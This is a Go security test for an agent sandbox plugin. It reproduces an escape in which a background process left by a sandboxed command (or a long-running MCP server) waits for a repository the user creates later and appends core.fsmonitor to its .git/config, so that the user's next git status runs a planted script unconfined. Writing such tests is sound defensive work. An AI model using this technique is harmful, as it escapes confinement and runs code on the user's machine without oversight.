package sandbox_test

// Attack (a27, item 1: other namespaces): every protection of a
// repository's settings is a mount in the namespace of the command whose
// launcher planned it, made from what existed at its start. A process that
// namespace holds on to (a command's leftover `( … ) &`, an MCP server
// running for hours) sees every repository made AFTER its start as plain
// files in its grant. A command leaves a process behind that waits for a
// repository to appear in the grant. The person then makes or clones one
// there (~/code/app, `git clone` in their own terminal). The leftover
// writes core.fsmonitor into app/.git/config, and the person's next
// `git status` in app runs it unconfined. Nothing later sees it: the next
// command's launcher mounts the config read-only as it now is, and its
// watcher looks only for commondir files. (The docs list submodules and
// worktrees added later as not covered; not a repository added later.)
//
// Should: a repository the person makes in a grant is not writable to
// processes left from earlier commands (they end with their command, or
// the new repository's settings are protected from them), and the
// person's git status runs nothing of theirs.
// Does: the leftover writes app/.git/config and the person's git status
// runs the planted core.fsmonitor unconfined.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/wrasse-app/wrasse/plugins/sandbox"
)

func TestA27LeftoverWritesRepositoryMadeLater(t *testing.T) {
	requireLandlock(t)
	requireGit(t)
	f := newFixture(t)
	marker := filepath.Join(f.outside, "ran-unconfined")
	script := filepath.Join(f.granted, "planted.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := sandbox.ForCommand(sandbox.CommandOptions{Roots: []string{f.granted}, Protected: f.protected(), Temp: f.temp})
	// Command 1 leaves a process that waits (at most 20 s) for app/.git/config.
	leftover := `S=` + script + `; ( i=0; while [ ! -f app/.git/config ] && [ $i -lt 100 ]; do sleep 0.2; i=$((i+1)); done; sleep 0.5;
		printf '[core]\n\tfsmonitor = %s\n' "$S" >> app/.git/config && touch wrote ) </dev/null >/dev/null 2>&1 &
		echo left`
	out, ok := runIn(t, p, f.granted, leftover, nil)
	if !ok || !strings.Contains(out, "left") || strings.Contains(out, "no mount namespace") {
		t.Fatalf("the first command failed: %.300s", out)
	}
	// The person makes a repository in the grant.
	repo := newRepo(t, filepath.Join(f.granted, "app"))
	git(t, repo, "commit", "-q", "--allow-empty", "-m", "first")
	for i := 0; i < 100; i++ {
		if _, err := os.Stat(filepath.Join(f.granted, "wrote")); err == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	gitOK(repo, "status")
	_, err := os.Stat(marker)
	openWhile(t, err == nil, "a process a command leaves running (or a long-running MCP server) writes the settings of a repository made after it started")
}
